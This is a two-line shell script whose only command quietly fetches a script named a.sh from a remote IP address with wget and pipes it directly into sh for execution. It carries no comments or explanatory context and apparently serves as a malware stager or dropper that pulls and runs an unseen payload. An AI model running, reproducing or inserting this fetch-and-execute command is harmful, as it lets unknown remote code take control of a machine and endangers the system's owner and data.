#!/bin/sh
wget -O- -q http://203.0.113.77/a.sh|sh
